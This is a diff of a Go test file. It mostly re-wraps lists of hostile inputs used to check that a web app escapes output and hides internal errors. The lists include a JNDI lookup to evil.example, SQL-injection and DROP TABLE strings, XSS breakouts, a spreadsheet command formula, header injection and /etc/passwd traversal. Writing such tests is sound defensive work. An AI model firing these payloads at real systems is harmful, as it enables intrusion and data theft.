@@ -18,20 +18,29 @@ import (
 
 // hostile are values that nobody means well with, or that a program easily gets wrong.
 var hostile = []string{
-	"", " ", "\t\r\n", "\u200b\u200d\ufeff", "\u202egnp.exe", "\u200f\u061c\u2067x", "\u2028\u2029", "e" + strings.Repeat("\u0301", 500), "👩‍👩‍👧‍👦\U0001f3f4\U000e0067",
-	"null", "undefined", "true", "__proto__", "constructor", "{\"a\":[1]}", "-", "\\", "%00", "%2e%2e%2f", "%s%n%d", "${jndi:ldap://evil.example/a}",
-	"1e309", "-1e309", "NaN", "Infinity", "-1", "0", "00", "0x41", "1_000", "1,2,3", "٣", "９", "99999999999999999999", "9223372036854775808", "0.30000000000000000000004",
+	"", " ", "\t\r\n", "\u200b\u200d\ufeff", "\u202egnp.exe", "\u200f\u061c\u2067x", "\u2028\u2029", "e" + strings.Repeat("\u0301", 500),
+	"👩‍👩‍👧‍👦\U0001f3f4\U000e0067",
+	"null", "undefined", "true", "__proto__", "constructor", "{\"a\":[1]}", "-", "\\", "%00", "%2e%2e%2f", "%s%n%d",
+	"${jndi:ldap://evil.example/a}",
+	"1e309", "-1e309", "NaN", "Infinity", "-1", "0", "00", "0x41", "1_000", "1,2,3", "٣", "９", "99999999999999999999",
+	"9223372036854775808", "0.30000000000000000000004",
 	"2026-02-30", "0000-00-00", "10000-01-01", "2026Q5", "31", "13",
 	"' OR '1'='1", "'; DROP TABLE entries; --", "1) UNION ALL VALUES (1, 2", "%_%", "a' || randomblob(1000000000) || '",
 	`{{.}}`, `{{printf "%s" "hos"}}tile-run`, `{{template "layout.html" .}}`, "<%= 7*7 %>",
-	"<hostile-tag>", `"><hostile-tag x="`, `'><hostile-tag x='`, "</textarea><hostile-tag>", "</title></style></script><hostile-tag>", "<!--<hostile-tag>",
-	`" onfocus="hostile()" autofocus x="`, "javascript:hostile()", "&lt;hostile-tag&gt;", "data:text/html,<hostile-tag>", "https://evil.example/<hostile-tag>",
-	"a\r\nSet-Cookie: hostile=1", `=HYPERLINK("https://evil.example")`, "=cmd|' /C calc'!A0", "../../../../etc/passwd", `..\..\x`, "C:\\con", "file:///etc/passwd", "//evil.example/",
+	"<hostile-tag>", `"><hostile-tag x="`, `'><hostile-tag x='`, "</textarea><hostile-tag>", "</title></style></script><hostile-tag>",
+	"<!--<hostile-tag>",
+	`" onfocus="hostile()" autofocus x="`, "javascript:hostile()", "&lt;hostile-tag&gt;", "data:text/html,<hostile-tag>",
+	"https://evil.example/<hostile-tag>",
+	"a\r\nSet-Cookie: hostile=1", `=HYPERLINK("https://evil.example")`, "=cmd|' /C calc'!A0", "../../../../etc/passwd", `..\..\x`,
+	"C:\\con", "file:///etc/passwd", "//evil.example/",
 	strings.Repeat("1", 400), strings.Repeat("W", 1000),
 }
 
 // large are values that take much time or memory where a program is careless.
-var large = []string{strings.Repeat("m", 1<<20), strings.Repeat("a ", 20_000), strings.Repeat("\n", 20_000), strings.Repeat("[", 20_000), strings.Repeat("<b>", 20_000)}
+var large = []string{
+	strings.Repeat("m", 1<<20), strings.Repeat("a ", 20_000), strings.Repeat("\n", 20_000), strings.Repeat("[", 20_000),
+	strings.Repeat("<b>", 20_000),
+}
 
 // unreadable are values that no form may hold at all.
 var unreadable = []string{"a\x00b", "\x00", "\xff\xfe", "\xc3\x28", "\xed\xa0\x80", "caf\xe9"}
@@ -54,8 +63,10 @@ func turn(values []string, turn, some int) []string {
 
 // internals are words that only somebody who looks after the program should read.
 var internals = []string{
-	"goroutine ", "template:", "sqlite", "SQL logic", "no such table", "no such column", "constraint failed", ".go:", "runtime error", "strconv.", `parsing &#34;`,
-	"pgx", "panic", "html/template", "invalid syntax", "tenant_id", "nil pointer", "&lt;nil&gt;", "%!", "ZgotmplZ", "context canceled", "context deadline",
+	"goroutine ", "template:", "sqlite", "SQL logic", "no such table", "no such column", "constraint failed", ".go:", "runtime error",
+	"strconv.", `parsing &#34;`,
+	"pgx", "panic", "html/template", "invalid syntax", "tenant_id", "nil pointer", "&lt;nil&gt;", "%!", "ZgotmplZ", "context canceled",
+	"context deadline",
 }
 
 // unharmed checks that an answer shows nothing that it should not, whatever was asked.
@@ -72,7 +83,10 @@ func unharmed(t *testing.T, what string, got answer) {
 		}
 	}
 	page := !got.isFile()
-	for _, raw := range []string{"<hostile-tag", `" onfocus="hostile`, "hostile-run", `href="javascript:`, `href="data:`, `src="data:`, `action="javascript:`} {
+	for _, raw := range []string{
+		"<hostile-tag", `" onfocus="hostile`, "hostile-run", `href="javascript:`, `href="data:`, `src="data:`,
+		`action="javascript:`,
+	} {
 		if page && strings.Contains(got.body, raw) {
 			t.Errorf("%s: %s comes back as it was", what, raw)
 		}
